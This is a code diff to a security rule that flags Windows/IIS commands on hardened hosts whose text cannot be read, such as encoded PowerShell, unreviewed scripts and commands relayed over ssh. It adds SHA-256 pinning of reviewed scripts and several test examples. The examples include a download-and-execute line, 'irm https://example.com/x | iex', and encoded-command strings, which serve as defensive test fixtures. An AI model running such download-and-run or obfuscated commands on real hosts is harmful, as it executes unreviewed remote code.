@@ -1,41 +1,53 @@
-import { eachCommandText, isRaw } from "../commandTexts";
-import { desiredFor, fails, type Given, hardened, passes, pinned } from "../example";
+import { commandType } from "../../components/settings/resourceTypes";
+import { sha256 } from "../../components/settings/sha256";
+import { type Carried, carriedIn } from "../carriers";
+import { type CommandText, isRaw, isText, textsOf } from "../commandTexts";
+import { copiesTo } from "../copies";
+import { fails, type Given, hardened, otherKey, passes, pinned } from "../example";
 import { reasonsIn } from "../rawChanges";
-import { addressOf, isRemote, isUndecided } from "../reach";
-import { commandType, isHardening } from "../resources";
-import { attempt, type Context, type Finding, type Resource, rule, type Undecided } from "../rule";
+import { addressOf, hardenedHosts, hostAt, isRemote, isUndecided } from "../reach";
 
-/**
- * The hardened host that a Command logs in to, the jump host of a target too; a local one may name its address. One
- * host name is one host, by whatever port or jump host.
- */
-function hostReached(resource: Resource, hardeners: readonly Resource[]): string | undefined | Undecided {
-  const addresses = hardeners.map((hardener) => [hardener.name, addressOf(hardener)] as const);
-  if (isRemote(resource)) {
-    const own = addressOf(resource);
-    if (isUndecided(own)) return own;
-    return addresses.find(([, at]) => at && !isUndecided(at) && at.host === own?.host)?.[0];
-  }
-  const create = attempt(resource.name, () => resource.props.create);
-  const text = "value" in create && typeof create.value === "string" ? create.value.toLowerCase() : "";
-  return addresses.find(([, at]) => at && !isUndecided(at) && text.includes(at.host))?.[0];
+import { type Context, type Finding, type Resource, rule } from "../rule";
+
+type Stack = readonly Resource[];
+
+/** What a Command is given beside its text goes where the text goes. */
+const carriedAlong = new Set<CommandText["field"]>(["stdin", "environment"]);
+
+/** What a Command that runs elsewhere carries to hardened hosts, text by text. */
+function carried(texts: readonly CommandText[], all: ReturnType<typeof hardenedHosts>) {
+  const found = texts.flatMap((text) =>
+    carriedIn(text.reading, all).map((each): Carried & Pick<CommandText, "at"> => ({ ...each, at: text.at })),
+  );
+  const reached = [...new Set(found.map(({ host }) => host))];
+  const along = texts.filter(({ field }) => carriedAlong.has(field));
+  return [...found, ...reached.flatMap((host) => along.map(({ at, reading }) => ({ host, at, reading })))];
 }
 
-/** What cannot be read of a Command, where it runs on one of these hosts. */
-function* judgeOn(
-  hardeners: readonly Resource[],
-  resource: Resource,
-  { config }: Context,
-): Iterable<Finding> {
+/** What cannot be read of a Command, where it runs on a hardened host, or makes one run it. */
+function* judgeOne(resource: Resource, stack: Stack, { config }: Context): Iterable<Finding> {
   const reviewed = config.reviewedScripts as readonly string[];
-  const found = [
-    ...eachCommandText(resource, ({ at, reading }) =>
-      reasonsIn(reading, reviewed).map((reason) => `${at} ${reason}`),
-    ),
-  ];
-  const reached = found.length > 0 ? hostReached(resource, hardeners) : undefined;
-  if (isUndecided(reached)) yield reached;
-  else if (reached !== undefined) yield* found.map((what) => onHardened(what, reached));
+  const items = [...textsOf(resource)];
+  const texts = items.filter(isText);
+  const all = hardenedHosts(stack);
+  const own = isRemote(resource) ? addressOf(resource) : undefined;
+  const host = own === undefined || isUndecided(own) ? undefined : hostAt(own, all);
+  const shownOn = (name: string) => ({
+    copies: all.hosts.filter((each) => each.name === name).flatMap((each) => copiesTo(each, stack)),
+    reviewed,
+  });
+  const on = (name: string, { at, reading }: Pick<CommandText, "at" | "reading">) =>
+    reasonsIn(reading, shownOn(name)).map((reason) => onHardened(`${at} ${reason}`, name));
+  if (host) {
+    yield* items.filter((item): item is Finding => !isText(item));
+    yield* texts.flatMap((text) => on(host.name, text));
+    return;
+  }
+  const unread =
+    items.length > texts.length ||
+    texts.some((text) => reasonsIn(text.reading, { copies: [], reviewed }).length > 0);
+  if (isUndecided(own) && unread) yield own;
+  yield* new Set(carried(texts, all).flatMap((each) => on(each.host, each)));
 }
 
 const onHardened = (what: Finding, host: string): Finding =>
@@ -53,19 +65,34 @@ const local = (create: string): Given => ({
   type: "command:local:Command",
   props: { create },
 });
-const web = hardened(desiredFor());
+/** On a machine of its own, which nothing hardens. */
+const elsewhere = (create: string): Given => ({
+  ...setup(create),
+  props: { connection: { ...pinned, host: "other.example.com", hostKey: otherKey }, create },
+});
+const web = hardened();
 const encoded = "powershell -enc RwBlAHQALQBEAGEAdABlAA==";
 const text = "setup (command:remote:Command): `create`";
 
+const copied = (content: unknown): Given => ({
+  type: "command:remote:CopyToRemote",
+  name: "script",
+  props: { connection: pinned, remotePath: "C:/drop/site.ps1", source: { text: content } },
+});
+const opaqueText = "& $env:STEP";
+const readable = "Import-Module WebAdministration; Restart-WebAppPool Shop";
+const runsCopy = setup("powershell -File C:\\drop\\site.ps1");
+
 /** `beyond.ts` of the tests has a row for each. */
 const limits = [
-  "programs, installers and libraries of one's own, also those that were downloaded before",
+  "programs, installers and libraries of one's own that are on the host already",
   "scripts in languages that are no shell's (`python deploy.py`)",
   "Windows features that bring a service along (`Install-WindowsFeature SMTP-Server`)",
   "scheduled tasks, functions and services that the host has already, and files that the next logon runs",
   "group policies of the domain, and other tools that manage configurations",
   "texts that PowerShell takes from a file by itself (`powershell -Command (Get-Content a.txt)`)",
   "programs that start a service of their own accord (`winrm quickconfig`), and dependencies of services",
+  "what a program runs through a function of a provider (`local.runOutput`), which is no resource",
 ];
 
 export const forbidUnreadableCommands = rule({
@@ -77,7 +104,8 @@ export const forbidUnreadableCommands = rule({
   severity: "high",
   reference: "Not Required By Most Installations",
   tags: ["windows", "iis", "commands"],
-  remediationSteps: "Write out what the Command does, or name the script as reviewed.",
+  remediationSteps:
+    "Write out what the Command does, or let the stack copy the script as a StringAsset, so that it is read.",
   limits,
   configSchema: {
     properties: {
@@ -85,29 +113,34 @@ export const forbidUnreadableCommands = rule({
         type: "array",
         items: { type: "string" },
         default: [],
-        description: "File names of scripts that may run on hardened hosts, since somebody has read them.",
+        description:
+          "Scripts that may run on hardened hosts, since somebody has read them: the path there, a blank, and the SHA-256 of the text. The stack has to copy it there as a StringAsset.",
       },
     },
   },
   remembers: true,
   judge: (resource, context) =>
-    isRaw(resource) ? judgeOn([...context.earlier.values()].filter(isHardening), resource, context) : [],
-  judgeStack: (resources, context) => {
-    const hardeners = resources.filter(isHardening);
-    return resources.filter(isRaw).flatMap((resource) => [...judgeOn(hardeners, resource, context)]);
-  },
+    isRaw(resource) ? judgeOne(resource, [...context.earlier.values()], context) : [],
+  judgeStack: (resources, context) =>
+    resources.filter(isRaw).flatMap((resource) => [...judgeOne(resource, resources, context)]),
   examples: [
     passes("a text that everybody can read", [
       ...web,
       setup("appcmd.exe set site Shop /serverAutoStart:true"),
     ]),
-    passes("a reviewed script", [...web, setup("powershell -File C:\\deploy.ps1")], {
-      reviewedScripts: ["Deploy.ps1"],
-    }),
-    passes("an encoded command on a host that is not hardened", [
+    passes("a script that the stack copies, and whose text changes no service", [
       ...web,
-      setup(encoded, "other.example.com"),
+      copied(readable),
+      runsCopy,
     ]),
+    passes("a reviewed script", [...web, copied(opaqueText), runsCopy], {
+      reviewedScripts: [`C:\\drop\\site.ps1 ${sha256(opaqueText)}`],
+    }),
+    passes("a script of this machine that waits for a hardened host", [
+      ...web,
+      local(`./scripts/wait-for.sh ${pinned.host} 443`),
+    ]),
+    passes("an encoded command on a host that is not hardened", [...web, elsewhere(encoded)]),
     passes("an encoded command on this machine", [...web, local(encoded)]),
     fails("an encoded command on a hardened host", [...web, setup(encoded)], {
       says: [
@@ -119,15 +152,41 @@ export const forbidUnreadableCommands = rule({
       says: [`${text} has an encoded command`],
     }),
     fails("a script that nobody has reviewed", [...web, setup("C:\\temp\\fix.cmd")], {
-      says: [
-        `${text} runs the script fix.cmd, whose text the stack does not show`,
-        "runs the script fix.cmd",
+      says: [`${text} runs the file fix.cmd, whose text the stack does not show`, "runs the file fix.cmd"],
+    }),
+    fails("a script of the reviewed path with another text", [...web, copied(`${opaqueText} `), runsCopy], {
+      config: { reviewedScripts: [`C:\\drop\\site.ps1 ${sha256(opaqueText)}`] },
+      says: ["runs the file site.ps1, whose text cannot be read in full", "runs the file site.ps1"],
+    }),
+    fails(
+      "a script with the name of a reviewed one",
+      [...web, setup("powershell -File C:\\evil\\deploy.ps1")],
+      {
+        config: { reviewedScripts: ["deploy.ps1"] },
+        says: ["runs the file deploy.ps1, whose text the stack does not show", "runs the file deploy.ps1"],
+      },
+    ),
+    fails("a path that may be a script's", [...web, setup("C:\\drop\\fix")], {
+      says: ["runs the file fix", "runs the file fix"],
+    }),
+    fails(
+      "the hardened host under another address, with the same key",
+      [...web, setup(encoded, "10.0.0.5")],
+      { says: ["has an encoded command", "has an encoded command"] },
+    ),
+    fails(
+      "an encoded command that a machine of the stack sends to a hardened host",
+      [...web, elsewhere(`ssh Administrator@${pinned.host} ${encoded}`)],
+      { says: ["has an encoded command", "has an encoded command"] },
+    ),
+    fails(
+      "one that is sent when the Command is updated",
+      [
+        ...web,
+        { ...local("hostname"), props: { create: "hostname", update: `ssh ${pinned.host} ${encoded}` } },
       ],
-    }),
-    fails("a script with another name than the reviewed one", [...web, setup("C:\\temp\\fix.cmd")], {
-      config: { reviewedScripts: ["deploy.ps1"] },
-      says: ["runs the script fix.cmd", "runs the script fix.cmd"],
-    }),
+      { says: ["`update` has an encoded command", "`update` has an encoded command"] },
+    ),
     fails("what is downloaded", [...web, setup('powershell -c "irm https://example.com/x | iex"')], {
       says: ["runs", "runs"],
     }),
